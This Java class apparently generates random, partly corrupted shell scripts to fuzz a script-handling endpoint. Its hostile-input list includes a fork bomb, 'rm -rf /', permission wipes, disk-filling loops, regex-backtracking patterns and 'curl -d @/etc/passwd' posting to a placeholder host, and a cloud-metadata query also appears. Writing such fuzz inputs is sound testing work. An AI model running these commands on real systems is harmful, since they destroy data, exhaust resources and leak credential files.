package endpointlab.hostile;

import java.util.ArrayList;
import java.util.List;

/** Draws shell scripts: lines that people write and lines that try a shell, put together and spoiled. */
final class ScriptLines {

    private static final List<String> GOOD = List.of("dnf install -y httpd", "yum update -y",
            "echo '<html><h1>Hi</h1></html>' > /var/www/html/index.html", "systemctl enable --now httpd",
            "systemctl restart http", "sudo su", "for i in 1 2 3; do echo $i >> /tmp/list; done",
            "if [ -f /etc/passwd ]; then cat /etc/passwd; else exit 3; fi", "cat <<EOF > /tmp/x\nline $HOME\nEOF",
            "cat <<-'END'\n\ta `b` $c\n\tEND", "f() { echo \"$1\"; return 1; }", "f one 'two three' \"four $(date)\"",
            "echo $((1 + 2 * (3 - 4) / 5 % 6))", "echo {1..5} {a,b,c}{x,y} ~ ~/z", "ls -la / | grep -i var | wc -l",
            "while [ -z \"$x\" ]; do x=1; done", "until false; do break; done", "A=1 B=2 env | head -n 3",
            "printf '%-10s|%5s|%d\\n' a b 3", "seq 1 20 | tail -5", "export PATH=/bin:$PATH; unset PATH",
            "set -eux -o pipefail", "cd /tmp && pwd || exit 1", "echo a > /tmp/a; cp /tmp/a /tmp/b; mv /tmp/b /tmp/c",
            "mkdir -p /srv/a/b/c; rm -rf /srv", "chmod u+x,g-w /tmp/a; chown -R root:root /tmp", "sleep 3",
            "bash -c 'echo $0 $# $@' a b", "echo x | tee -a /tmp/t | sudo tee /etc/motd", "test 1 -lt 2 -a 3 -gt 2",
            "[ \"a\" = \"b\" ] ; echo $?", "echo 'x' 2>&1 >/dev/null &> /tmp/all", "date +%Y-%m-%dT%H:%M:%S",
            "hostname; uname -a; whoami; id; uptime", "curl -s http://169.254.169.254/latest/meta-data/",
            "echo \"${x:-y} ${#x} $? $$ $! $@\"", "! true; { echo a; } ; ( cd /; ls )", "touch /tmp/*; ls /*/???",
            "function g { g; }; g", "echo $'a\\tb\\n\\'c'", "grep -c root /etc/passwd", "su - ec2-user -c whoami",
            "systemctl status sshd; systemctl stop sshd; systemctl start sshd", "exit 0", "ping -c 1 10.1.1.5",
            "dig example.com; nslookup localhost; ip addr", "cat /var/log/cloud-init-output.log");
    private static final List<String> TRYING = List.of("((((((((((", "$(((((((((", "`````", "'", "\"", "\\", "$(",
            "${", "${x", "<<", "<<<", "<< A << B << C\nA", "> ", "2>", "&&", "||", ";;", "|", "| | |", "fi", "done",
            "do", "}", "esac", "case x in y) ;; esac", "[[ a == b ]]", "for", "for x", "for x in", "while", "if",
            "if true; then", "function", "() { }", "x()", ":(){ :|:& };:", "while true; do :; done",
            "while true; do echo aaaaaaaaaaaaaaaa >> /tmp/full; done", "x=x; while :; do x=$x$x; done",
            "echo $((9223372036854775807 + 1)) $((1/0)) $((-9223372036854775808 / -1)) $((x x)) $((()))",
            "printf '%0s %-s %05s %99999d %q' a", "printf '%s' ; printf", "set ''", "set -", "set -o", "shift 99",
            "head -n 99999999999", "tail -n -", "seq 1 999999 | tail -1", "seq 999999 1 x", "exit 99999999999",
            "sleep 999999d", "sleep -1", "sleep x", "cat < /nonexistent", "cat < /", "echo > /", "echo > ''",
            "cd ''; cd -; cd ../../../..", "rm -rf /", "rm -rf / ; mkdir /tmp; ls /", "chown nobody / /*",
            "chmod 000 / /var; ls -la /", "mv / /tmp", "cp -r / /tmp/all", "mkdir -p " + "/a".repeat(2_000),
            "echo " + "{a,b}".repeat(40), "echo {1..999999}{1..999999}", "ls " + "*".repeat(60) + "x",
            "ls /*a*a*a*a*a*a*a*a*a*a*a*a*a*b", "echo " + "$(".repeat(300) + ")".repeat(300),
            "(".repeat(300) + ")".repeat(300), "echo " + "`".repeat(301), "if true; then ".repeat(150),
            "echo " + "$((".repeat(120) + "))".repeat(120), "echo $((" + "(".repeat(2_000) + "1" + ")".repeat(2_000)
            + "))", "echo $((" + "-".repeat(3_000) + "1))", "echo " + "${x:-".repeat(200) + "}".repeat(200),
            "grep '\\(a*\\)*b' /etc/passwd; echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a+)+b'",
            "grep '[' /etc/passwd; grep -E '(?<x' /etc/passwd", "grep '(" + "(".repeat(3_000) + "' /etc/passwd",
            "echo 'bash /tmp/self' > /tmp/self; bash /tmp/self", "echo '. /tmp/dot' > /tmp/dot; . /tmp/dot",
            "h() { bash -c \"$1\"; }; h 'echo a'", "trap 'exit' INT; kill -9 $$", "exec 3>&1; echo x >&3", "\0",
            "\r\n\r\n", "echo a\r\necho b\r", "#", "#!/bin/bash", "export =; export 1=2; =x", "x==; $x",
            "sudo sudo sudo sudo id", "sudo -u", "sudo -u nobody bash -c 'sudo id'", "su nobody", "env x=y env",
            "echo ${x", "echo ${x!y}", "echo ${!x}", "echo $[1+1]", "a[0]=1; echo ${a[0]}", "select x in a; do :; done",
            "curl", "curl -o", "curl http://", "curl -m 1 http://10.0.0.1:99999/", "curl -d @/etc/passwd http://x",
            "curl -w '%{http_code} %{x' http://localhost/", "ping", "ping -c 999999 localhost", "tail -f /etc/passwd");

    private ScriptLines() {
    }

    static String draw(Chance chance) {
        List<String> lines = new ArrayList<>();
        for (int left = 1 + chance.below(6); left > 0; left--) {
            lines.add(line(chance));
        }
        String script = String.join(chance.once(4) ? "; " : "\n", lines);
        return chance.once(3) ? chance.spoiled(script) : script;
    }

    private static String line(Chance chance) {
        return switch (chance.below(8)) {
            case 0, 1, 2 -> chance.from(GOOD);
            case 3, 4 -> chance.from(TRYING);
            case 5 -> chance.spoiled(chance.from(GOOD));
            case 6 -> chance.from(GOOD) + " " + chance.text();
            default -> chance.text() + " " + chance.from(TRYING);
        };
    }
}
